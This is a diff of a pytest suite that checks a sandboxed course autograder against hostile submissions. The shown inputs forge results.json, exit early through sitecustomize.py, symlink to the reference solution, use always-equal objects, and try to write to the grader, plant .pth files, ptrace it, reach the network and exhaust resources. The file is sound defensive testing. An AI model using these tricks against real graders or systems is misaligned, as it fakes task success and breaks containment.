-    """Correct code; operators.py (imported by every run) tampers at import, a different
-    way in each task's run."""
-    files = dict(sources.reference)
-    files["module0/operators.py"] += TAMPER
-    return grade_case(tmp_path_factory.mktemp("tamper"), files)
+def forgery_submission() -> dict[str, str]:
+    files = stub_files()
+    files["module0/operators.py"] += FORGERY
+    return files
 
 
-@pytest.mark.parametrize("task_id", list(TAMPERING), ids=[v[0] for v in TAMPERING.values()])
-def test_tampering_scores_zero_even_with_correct_code(tampering: Graded, task_id: str) -> None:
-    score = tampering.task(task_id)
-    how, detected_as = TAMPERING[task_id]
-    assert score.score == 0.0, (
-        f"task {task_id}: the run {how} and still scored {score.score}/{score.max_score} "
-        f"({score.passed}/{score.total} tests); the tampering went unnoticed"
-    )
-    assert "changed the test machinery" in score.problem, score.problem
-    if detected_as is not None:
-        assert detected_as in score.problem, score.problem
-    assert written_scores(tampering.out)[task_id] == 0.0
+def reach_submission(grader: Path) -> dict[str, str]:
+    return {path: text + REACH.format(grader=str(grader), rel=path)
+            for path, text in stub_files().items()}  # fmt: skip
 
 
-# -- 11 (the stub half is above): the grader's tests are used ----------------------------
+def escape_submission(grader: Path, pid: int, secret: str) -> dict[str, str]:
+    files = stub_files()
+    files["module0/operators.py"] += ESCAPE.format(grader=str(grader), pid=pid, secret=secret)
+    return files
 
 
-def test_submission_tests_are_never_run(reference_with_surroundings: Graded) -> None:
-    # The pristine suite ran: task 0.1 counts the grader's many tests, not the single
-    # `assert True` of the submission's edited copy.
-    score = reference_with_surroundings.task("0.1")
-    assert score.total > 10 and score.passed == score.total
-    assert not any("test_everything" in nodeid for nodeid in score.passed_ids)
+def abuse_submission(token: str, forks: int = 1000) -> dict[str, str]:
+    files = stub_files()
+    files["module0/operators.py"] += ABUSE.format(token=token, forks=forks)
+    return files
 
 
-def test_grading_leaves_the_submission_untouched(
-    reference_with_surroundings: Graded, sources: Sources
+# -- 1. in-process forgery ----------------------------------------------------------------
+
+
+def test_forging_the_verdict_inside_the_sandbox_earns_nothing(tmp_path: Path, grader: Path) -> None:
+    # Before: the stub submission took 80/80 (every pytest test "passed").
+    graded = grade_case(tmp_path, forgery_submission(), grader)
+    assert_scores(graded, ZERO)
+    assert "answer: expected" in graded.task("0.1").report()
+
+
+# -- 2. the reference within reach --------------------------------------------------------
+
+
+def test_the_reference_is_out_of_reach(tmp_path: Path, grader: Path) -> None:
+    # Before: the stubs ran the reference's own code (read from the grader's tree, or
+    # through the editable install's finder) and took 80/80.
+    graded = grade_case(tmp_path, reach_submission(grader), grader)
+    assert_scores(graded, ZERO)
+
+
+def test_an_installed_copy_of_the_course_is_hidden_in_the_sandbox(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    submission = reference_with_surroundings.case / "sub"
-    for path, text in sources.reference.items():
-        assert (submission / path).read_text(encoding="utf-8") == text
-    assert sorted(p.name for p in submission.iterdir() if p.is_file()) == sorted(
-        name for name in SURROUNDINGS if "/" not in name
+    # ``pip install .`` (not editable) would put the reference into site-packages, which
+    # the sandbox binds: each course package found there is covered by an empty folder.
+    site = tmp_path / "site-packages"
+    (site / "module0").mkdir(parents=True)
+    monkeypatch.setattr(sandbox, "site_dirs", lambda: [str(site)])
+    args = sandbox._binds(None, None, sandbox.SandboxLimits())
+    assert str(site / "module0") in [args[i + 1] for i, a in enumerate(args) if a == "--tmpfs"]
+
+
+# -- 3. a writable grader -------------------------------------------------------------------
+
+
+def test_the_grader_and_its_environment_are_out_of_reach(
+    tmp_path: Path, grader: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # Before: every attempt below succeeded, the grader's grade.py was changed for the
+    # next submission and a .pth was planted in its environment.
+    secret = secrets.token_hex(8)
+    monkeypatch.setenv("MINITORCH_TEST_SECRET", secret)
+    before = fingerprint(grader)
+    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
+    base = Path(sys.base_prefix) / "lib" / version / "site-packages"
+    folders = {*sandbox.site_dirs(), *site.getsitepackages(), str(base)}
+    planted = [Path(p) / "zz_minitorch_hostile.pth" for p in folders]
+    graded = grade_case(tmp_path, escape_submission(grader, os.getpid(), secret), grader)
+    try:
+        assert not any(p.exists() for p in planted)
+    finally:
+        for p in planted:
+            p.unlink(missing_ok=True)
+    assert fingerprint(grader) == before
+    assert_scores(graded, ZERO)
+    found = findings(graded)
+    assert set(found) == {"write-grader", "new-file-in-grader", "plant-pth", "signal-grader",
+                          "read-grader-environ", "ptrace-grader", "network"}, found  # fmt: skip
+    assert all(outcome.startswith("blocked") for outcome in found.values()), found
+    assert secret not in graded.text()
+    # The grader is as it was: the reference still gets full marks from it.
+    honest = grade_case(tmp_path / "honest", reference_files(), grader)
+    assert_scores(honest, FULL)
+
+
+# -- 4. limits on the whole sandbox ------------------------------------------------------------
+
+
+def _alive_with(token: str) -> list[int]:
+    found = []
+    for entry in Path("/proc").iterdir():
+        if entry.name.isdigit():
+            try:
+                if token.encode() in (entry / "cmdline").read_bytes():
+                    found.append(int(entry.name))
+            except OSError:
+                pass
+    return found
+
+
+def test_limits_hold_for_the_whole_sandbox_and_nothing_outlives_it(
+    tmp_path: Path, grader: Path
+) -> None:
+    # Before: 3 children held 600 MB each under a 1000 MB limit, 1000 processes slept,
+    # a 3 GB file was written, and the /dev/shm file and the detached process stayed.
+    token = f"minitorch-hostile-{secrets.token_hex(6)}"
+    start = time.monotonic()
+    graded = grade_case(tmp_path, abuse_submission(token), grader, task_ids=["0.1"])
+    seconds = time.monotonic() - start
+    try:
+        assert _alive_with(token) == []
+        assert not Path("/dev/shm", token).exists()
+    finally:
+        for pid in _alive_with(token):
+            os.kill(pid, 9)
+        Path("/dev/shm", token).unlink(missing_ok=True)
+    found = findings(graded)
+    assert graded.task("0.1").score == 0.0
+    limits = sandbox.SandboxLimits()
+    assert int(found["sleeping-processes"]) < limits.user_processes, found
+    assert found["3GB-file"].startswith("blocked"), found
+    groups = sandbox.ControlGroups(1 << 30, 10)
+    groups.remove()
+    if groups.applied:  # whole-sandbox limits where control groups can be made
+        assert int(found["children-holding-600MB"]) <= 1, found
+        assert int(found["sleeping-processes"]) < limits.processes, found
+    assert seconds < 60
+
+
+def test_a_hang_that_ignores_every_signal_ends_at_the_time_limit(
+    tmp_path: Path, grader: Path
+) -> None:
+    files = reference_files()
+    files["module0/module.py"] += HANG  # task 0.3's file: imported by every check run
+    limits = Limits(per_test_seconds=2, per_task_seconds=5, memory_mb=1000)
+    start = time.monotonic()
+    graded = grade_case(tmp_path, files, grader, limits, task_ids=["0.1", "0.3"])
+    assert time.monotonic() - start < 30
+    problem = graded.task("0.1").problem
+    assert "reached the task's time limit (5 s)" in problem, problem
+    assert graded.scores() == {"0.1": 0.0, "0.3": 0.0}
+
+
+def test_an_output_flood_is_read_with_a_cap(tmp_path: Path, grader: Path) -> None:
+    # Before: the grader read the whole log into memory (2 GB for a 1 GiB flood).
+    files = stub_files()
+    files["module0/operators.py"] += FLOOD
+    write_tree(tmp_path / "sub", files)
+    command = [sys.executable, "-m", "autograder.cli", "grade", str(tmp_path / "sub"),
+               "--out", str(tmp_path / "out"), "--stage", "0", "--task", "0.1"]  # fmt: skip
+    measure = (  # the grader's peak memory, and its children's: read by a parent of its own
+        "import resource, subprocess, sys; "
+        f"code = subprocess.run({command!r}, capture_output=True).returncode; "
+        "print(code, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)"
     )
-    assert not (submission / "__pycache__").exists()
+    run = subprocess.run([sys.executable, "-c", measure], cwd=grader, capture_output=True,
+                         text=True, timeout=300)  # fmt: skip
+    code, peak_kb = run.stdout.split()
+    assert code == "0", run.stderr[-2000:]
+    assert int(peak_kb) / 1024 < 400, peak_kb
+    report = json.loads((tmp_path / "out" / "results.json").read_text())["tests"][0]["output"]
+    assert "exited with status 1" in report
+    assert len(report) < 20_000
+
+
+# -- 5. reports that say why ---------------------------------------------------------------
+
+
+def test_reports_give_the_values_the_exit_status_and_the_inputs(
+    tmp_path: Path, grader: Path
+) -> None:
+    files = reference_files()
+    path = "module0/operators.py"
+    files[path] = with_region(files[path], path, "mul", "return x * y + 0.5")
+    files["module0/optim.py"] += "\nimport os, sys\nif '0.6' in sys.argv:\n    os._exit(3)\n"
+    graded = grade_case(tmp_path, files, grader, task_ids=["0.1", "0.6"])
+    mul = dict(graded.task("0.1").failures)["0.1:mul"]
+    assert "expected" in mul and "got" in mul and "(inputs: (" in mul, mul
+    assert graded.task("0.1").passed == graded.task("0.1").total - 1
+    problem = graded.task("0.6").problem
+    assert "the check process exited with status 3 before 3 of 3 checks answered" in problem
+    assert "0.1:mul" in graded.summary() or "0.1:mul" in graded.text()
+
+
+# -- controls and the classic tricks ----------------------------------------------------------
+
+
+def test_controls_the_stubs_score_zero_and_the_reference_full_marks(
+    tmp_path: Path, grader: Path
+) -> None:
+    assert_scores(grade_case(tmp_path / "stub", stub_files(), grader), ZERO)
+    assert_scores(grade_case(tmp_path / "ref", reference_files(), grader), FULL)
+
+
+SURROUNDINGS = {
+    "conftest.py": "import pytest\n",
+    "sitecustomize.py": "import os\nos._exit(0)\n",
+    "tests/module0/checks.py": "from autograder.checks import check\n",
+    "autograder/checks.py": "CHECKS = {}\n",
+    "results.json": PERFECT,
+}
+
+
+def test_only_declared_files_are_taken_and_links_are_refused(tmp_path: Path, grader: Path) -> None:
+    files = {**stub_files(), **SURROUNDINGS}
+    files["module0/scalar_nn.py"] += (
+        f"\nfor _f in ('results.json', 'summary.md'):\n"
+        f"    try:\n        open({str(tmp_path / 'out')!r} + '/' + _f, 'w').write({PERFECT!r})\n"
+        f"    except OSError:\n        pass\n"
+    )
+    del files["module0/operators.py"]
+    link = tmp_path / "sub" / "module0" / "operators.py"
+    link.parent.mkdir(parents=True)
+    link.symlink_to(ROOT / "module0" / "operators.py")
+    graded = grade_case(tmp_path, files, grader)
+    assert_scores(graded, ZERO)
+    assert any(n.startswith("module0/operators.py:") for n in graded.report.notes)
+    assert "FORGED" not in graded.text()
+
+
+def test_always_equal_results_earn_nothing(tmp_path: Path, grader: Path) -> None:
+    files = reference_files()
+    path = "module0/operators.py"
+    files[path] = with_region(files[path], path, "mul", "return _Result(x * y)") + ALWAYS_EQUAL
+    graded = grade_case(tmp_path, files, grader, task_ids=["0.1"])
+    assert "0.1:mul" in dict(graded.task("0.1").failures)
+    assert graded.task("0.1").passed == graded.task("0.1").total - 1
+
+
+def test_grading_leaves_the_submission_untouched(tmp_path: Path, grader: Path) -> None:
+    files = reference_files()
+    files["module0/scalar.py"] += (
+        "\ntry:\n    open(__file__, 'a').write('# rewritten')\nexcept OSError:\n    pass\n"
+    )
+    graded = grade_case(tmp_path, files, grader, task_ids=["0.4"])
+    for path, text in files.items():
+        assert (tmp_path / "sub" / path).read_text(encoding="utf-8") == text
+    assert graded.task("0.4").score == FULL["0.4"]  # the failed write is not its problem
+
+
+def test_without_a_sandbox_no_grade_is_issued(
+    tmp_path: Path, grader: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(sandbox, "unavailable_reason", lambda: "bwrap is not installed")
+    graded = grade_case(tmp_path, reference_files(), grader, task_ids=["0.1"])
+    assert graded.report.grader_error and "no sandbox" in graded.report.grader_error
+    assert graded.scores() == {"0.1": 0.0}
+    unsafe = grade_case(
+        tmp_path / "unsafe", reference_files(), grader, task_ids=["0.1"], unsafe_no_sandbox=True
+    )
+    assert unsafe.scores() == {"0.1": 10.0}
+    assert any("WITHOUT a sandbox" in note for note in unsafe.report.notes)
